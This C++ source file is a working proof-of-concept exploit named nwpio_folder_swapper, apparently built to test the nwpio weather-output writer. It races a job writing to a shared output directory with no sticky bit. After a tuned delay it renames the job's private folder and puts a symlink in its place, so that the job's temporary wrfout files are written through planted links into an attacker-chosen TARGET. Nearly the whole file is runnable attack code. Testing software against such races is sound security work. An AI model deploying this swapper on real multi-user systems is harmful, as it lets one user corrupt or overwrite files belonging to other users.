// nwpio_folder_swapper: the attacker of a shared output directory that does not plant a name
// before the job starts but swaps the job user's private folder while the job uses it. Run it
// as another user with write access to the output directory (no sticky bit):
//
//   nwpio_folder_swapper OUT_DIR PRIVATE_NAME TARGET DELAY_US SECONDS
//
// It prepares OUT_DIR/.swap, a folder of its own holding, for every name the job will write
// (wrfout_d01_2019-06-01_HH_00_00.nwpio-tmp, HH 00-99), a symbolic link to TARGET. Then it
// watches for OUT_DIR/PRIVATE_NAME to appear (lstat, as anyone may), waits DELAY_US
// microseconds -- long enough for nwpio to have checked the folder and created its temporary
// file in it, short enough to come before the libraries open that file by its path -- renames
// the job's folder away and puts a symbolic link to its own folder under the folder's name, and
// leaves it so. A job that reaches its files by their paths through the folder's name then opens
// the planted link and writes through it into TARGET. Prints when it swapped; exits after
// SECONDS or at SIGTERM.
#include <sys/stat.h>
#include <unistd.h>

#include <chrono>
#include <csignal>
#include <cstdio>
#include <cstdlib>
#include <string>
#include <thread>

namespace {

volatile std::sig_atomic_t g_stop = 0;
void on_term(int) { g_stop = 1; }

bool is_folder(const std::string& path) {
  struct stat st {};
  return ::lstat(path.c_str(), &st) == 0 && S_ISDIR(st.st_mode);
}

}  // namespace

int main(int argc, char** argv) {
  if (argc != 6) {
    std::fprintf(stderr, "usage: nwpio_folder_swapper OUT_DIR PRIVATE_NAME TARGET DELAY_US SECONDS\n");
    return 2;
  }
  std::signal(SIGTERM, on_term);
  const std::string out = argv[1], name = argv[2], target = argv[3];
  const auto delay = std::chrono::microseconds(std::atol(argv[4]));
  const double seconds = std::atof(argv[5]);
  const std::string folder = out + "/" + name, mine = out + "/.swap", link = out + "/.swap-link",
                    away = out + "/.swap-away";
  ::mkdir(mine.c_str(), 0777);
  for (int h = 0; h < 100; ++h) {
    char file[96];
    std::snprintf(file, sizeof file, "/wrfout_d01_2019-06-01_%02d_00_00.nwpio-tmp", h);
    ::symlink(target.c_str(), (mine + file).c_str());
  }
  if (::symlink(mine.c_str(), link.c_str()) != 0) return 1;
  const auto end = std::chrono::steady_clock::now() + std::chrono::duration<double>(seconds);
  bool swapped = false;
  while (!g_stop && std::chrono::steady_clock::now() < end) {
    if (swapped || !is_folder(folder)) {
      if (swapped) std::this_thread::sleep_for(std::chrono::milliseconds(10));
      continue;
    }
    const auto seen = std::chrono::steady_clock::now();
    while (std::chrono::steady_clock::now() - seen < delay) {
    }
    if (::rename(folder.c_str(), away.c_str()) != 0) continue;
    if (::rename(link.c_str(), folder.c_str()) != 0) {
      ::rename(away.c_str(), folder.c_str());
      continue;
    }
    swapped = true;
  }
  std::printf("swapper: %s\n", swapped ? "swapped the folder" : "never swapped");
  return 0;
}
